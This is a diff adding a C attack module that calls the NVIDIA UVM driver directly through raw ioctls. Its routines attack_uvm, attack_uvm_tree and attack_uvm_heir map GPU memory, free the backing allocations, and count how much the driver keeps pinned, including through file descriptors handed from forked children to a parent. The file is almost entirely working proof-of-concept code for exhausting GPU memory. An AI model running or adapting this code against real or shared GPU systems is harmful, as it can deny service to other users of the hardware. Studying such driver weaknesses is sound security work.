@@ -1,0 +1,165 @@
+/* Memory that UVM keeps: it takes a duplicate of what it maps. Numbers and layouts: uvm_ioctl.h, nvos.h. */
+#include "attack.h"
+
+#define BASE 0x700000000000u
+/* VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED, ENABLE_PAGE_FAULTING */
+#define EXTERNAL 0x48
+#define SPACE 0x5c000090u
+
+struct uvm {
+    int file;
+    uint8_t uuid[16];
+};
+
+static uint32_t call (int file, unsigned long number, void *params, size_t status_at)
+{
+    uint32_t status;
+
+    if (ioctl (file, number, params) < 0)
+        return 0x10000u + (uint32_t) errno;
+    memcpy (&status, (uint8_t *) params + status_at, sizeof (status));
+    return status;
+}
+
+/* An address space of the GPU that UVM manages. */
+static struct uvm begin (struct bed *bed, bool is_told)
+{
+    struct uvm uvm = { .file = open ("/dev/nvidia-uvm", O_RDWR) };
+    struct {
+        uint8_t uuid[16];
+        uint32_t numa;
+        int32_t node, file;
+        uint32_t client, partition, status;
+    } gpu = { .file = bed->file, .client = bed->client, .status = 0xffff };
+    struct {
+        uint8_t uuid[16];
+        int32_t file;
+        uint32_t client, space, status;
+    } space = { .file = bed->file, .client = bed->client, .space = SPACE, .status = 0xffff };
+    uint32_t gid[67] = { 0, 2 }, address_space[12] = { 0, EXTERNAL }, said[6];
+    uint64_t initialize[2] = { 0, 0xffff };
+    int32_t memory[2] = { uvm.file, -1 };
+    static const char *const names[] = { "gid", "initialize", "mm", "register", "space", "register-space" };
+
+    said[0] = bed_control (bed, bed->subdevice, 0x2080014a, gid, sizeof (gid));
+    memcpy (uvm.uuid, gid + 3, 16);
+    memcpy (gpu.uuid, gid + 3, 16);
+    memcpy (space.uuid, gid + 3, 16);
+    said[1] = call (uvm.file, 0x30000001, initialize, 8);
+    /* MM_INITIALIZE, on a file of its own: before it no address space can be registered. */
+    said[2] = call (open ("/dev/nvidia-uvm", O_RDWR), 75, memory, 4);
+    said[3] = call (uvm.file, 37, &gpu, 36);
+    said[4] = bed_alloc (bed, bed->device, SPACE, 0x90f1, address_space);
+    said[5] = call (uvm.file, 25, &space, 28);
+    for (unsigned i = 0; is_told && i < 6; i++)
+        say (names[i], said[i]);
+    return uvm;
+}
+
+static uint32_t map (const struct uvm *uvm, const struct bed *bed, unsigned place, uint32_t handle, uint64_t size)
+{
+    static struct {
+        uint64_t base, length, offset;
+        struct {
+            uint8_t uuid[16];
+            uint32_t kinds[5];
+        } gpus[256];
+        uint64_t count;
+        int32_t file;
+        uint32_t client, memory, status;
+    } params;
+    struct {
+        uint64_t base, length;
+        uint32_t status, spare;
+    } range = { BASE + place * GIB, size, 0xffff, 0 };
+
+    call (uvm->file, 73, &range, 16);
+    memset (&params, 0, sizeof (params));
+    params.base = range.base;
+    params.length = size;
+    memcpy (params.gpus[0].uuid, uvm->uuid, 16);
+    params.count = 1;
+    params.file = bed->file;
+    params.client = bed->client;
+    params.memory = handle;
+    return call (uvm->file, 33, &params, 9260);
+}
+
+/* uvm PIECES MEBIBYTES: memory is mapped and then freed: how many pieces can be had so? */
+void attack_uvm (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    struct uvm uvm = begin (&bed, true);
+    unsigned pieces = argc > 0 ? (unsigned) atoi (argv[0]) : 20, kept = 0;
+    uint64_t size = (argc > 1 ? (uint64_t) atoi (argv[1]) : 1024) * MIB;
+
+    for (unsigned i = 0; i < pieces; i++) {
+        uint32_t handle, mapped;
+
+        if (bed_memory (&bed, &handle, size) != 0)
+            break;
+        mapped = map (&uvm, &bed, i, handle, size);
+        kept += mapped == 0;
+        if (i == 0)
+            say ("map", mapped);
+        bed_free (&bed, handle);
+    }
+    say ("kept", kept);
+    hold ();
+    /* UVM lets go of half of them (FREE). */
+    for (unsigned i = 0; i < kept / 2; i++) {
+        uint64_t range[3] = { BASE + i * GIB, size, 0xffff };
+
+        call (uvm.file, 34, range, 16);
+    }
+    say ("let-go", kept / 2);
+    hold ();
+}
+
+/* uvm-tree: the memory goes with the device, or the client, that it is below. */
+void attack_uvm_tree (int argc, char **argv)
+{
+    struct bed bed = bed_open ();
+    struct uvm uvm = begin (&bed, false);
+    uint32_t handle, kept = 0;
+
+    (void) argc, (void) argv;
+    for (unsigned i = 0; i < 6 && bed_memory (&bed, &handle, GIB) == 0; i++)
+        kept += i % 2 == 0 && map (&uvm, &bed, i, handle, GIB) == 0;
+    say ("kept", kept);
+    hold ();
+    say ("freed", bed_free (&bed, bed.client));
+    hold ();
+}
+
+/* uvm-heir CHILDREN PIECES: each child maps what it allocates, leaves its UVM file to its parent and ends. */
+void attack_uvm_heir (int argc, char **argv)
+{
+    unsigned children = argc > 0 ? (unsigned) atoi (argv[0]) : 4, pieces = argc > 1 ? (unsigned) atoi (argv[1]) : 6;
+    uint8_t kept = 0, all = 0;
+    int pair[2];
+
+    if (socketpair (AF_UNIX, SOCK_STREAM, 0, pair) != 0)
+        exit (4);
+    for (unsigned i = 0; i < children; i++) {
+        pid_t child = fork ();
+
+        if (child == 0) {
+            struct bed bed = bed_open ();
+            struct uvm uvm = begin (&bed, false);
+            uint32_t handle;
+
+            kept = 0;
+            for (unsigned k = 0; k < pieces && bed_memory (&bed, &handle, GIB) == 0; k++)
+                kept += map (&uvm, &bed, k, handle, GIB) == 0;
+            _exit (send_descriptor (pair[0], uvm.file) != 0 || write (pair[0], &kept, 1) != 1);
+        }
+        if (receive_descriptor (pair[1]) < 0 || read (pair[1], &kept, 1) != 1)
+            exit (5);
+        waitpid (child, NULL, 0);
+        all += kept;
+        usleep (200000);
+    }
+    say ("kept", all);
+    hold ();
+}
